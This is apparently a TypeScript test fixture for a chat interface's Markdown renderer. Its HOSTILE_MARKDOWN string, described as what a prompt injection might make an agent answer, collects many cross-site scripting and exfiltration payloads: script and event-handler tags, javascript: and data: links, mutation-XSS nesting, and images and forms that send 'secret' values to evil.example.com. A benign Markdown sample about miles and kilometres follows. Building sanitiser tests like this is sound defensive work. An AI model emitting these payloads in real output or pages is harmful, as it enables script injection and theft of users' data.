/** Where a page that was tricked would send its requests, or what its title would become. */
export const EVIL_HOST = 'evil.example.com';
export const EVIL_TITLE = 'hacked';

const EVIL = `https://${EVIL_HOST}`;
const RUN = `document.title='${EVIL_TITLE}';fetch('${EVIL}/run')`;

/** What a prompt injection might make an agent answer. */
export const HOSTILE_MARKDOWN = `Before.

<script>${RUN}</script>
<img src="x" onerror="${RUN}">
<img src="${EVIL}/pixel.png?secret=1">

![exfiltrate](${EVIL}/leak.png?q=secret)
![relative](/api/v1/me)
![vector](data:image/svg+xml,%3Csvg/onload=alert(1)%3E)
[![linked](${EVIL}/linked.png)](https://good.example.com/image)

<svg onload="${RUN}"><image href="${EVIL}/svg.png"/></svg>
<iframe src="${EVIL}/frame"></iframe>
<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>
<object data="${EVIL}/object"></object><embed src="${EVIL}/embed">
<link rel="stylesheet" href="${EVIL}/style.css"><meta http-equiv="refresh" content="0;url=${EVIL}/">
<base href="${EVIL}/"><style>body{background:url(${EVIL}/css.png)}</style>
<div style="background:url(${EVIL}/inline.png);position:fixed;inset:0">styled</div>
<table background="${EVIL}/table.png"><tr><td background="${EVIL}/td.png">cell</td></tr></table>
<video src="${EVIL}/video" poster="${EVIL}/poster.png" autoplay></video><audio src="${EVIL}/audio" autoplay></audio>
<picture><source srcset="${EVIL}/set.png"><img srcset="${EVIL}/img-set.png"></picture>
<form action="${EVIL}/form"><input name="password" autofocus onfocus="${RUN}"><button>Go</button></form>
<details open ontoggle="${RUN}"><summary>More</summary>x</details>
<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>
<a id="main" name="main" href="javascript:${RUN}">raw link</a>

[script link](javascript:${RUN.replaceAll(' ', '%20')})
[data link](data:text/html,<script>${RUN.replaceAll(' ', '%20')}</script>)
[spaced link](<java
script:alert(1)>)
[vb](vbscript:x)

[good link](https://good.example.com/page)

\`\`\`html
<script>${RUN}</script>
\`\`\`

After.`;

/** One of each that Markdown has. */
export const LONG_MARKDOWN = `# Units of length

A mile is **1.609344** kilometres, *exactly*, and \`1 mi = 5280 ft\`. See [the standard](https://example.com/nist).

1. Measure.
2. Multiply:
   \`\`\`sh
   echo "26.2 * 1.609344" | bc
   \`\`\`
3. Round.

| miles | kilometres |
| ----: | ---------: |
| 1     | 1.609      |
| 26.2  | 42.165     |

\`\`\`ts
export const kilometres = (miles: number): number => miles * 1.609344; // a line that is rather long, so that it has to scroll somewhere
\`\`\`

> What it does not know it says.

- one
- two
  - three

---

Done.
`;
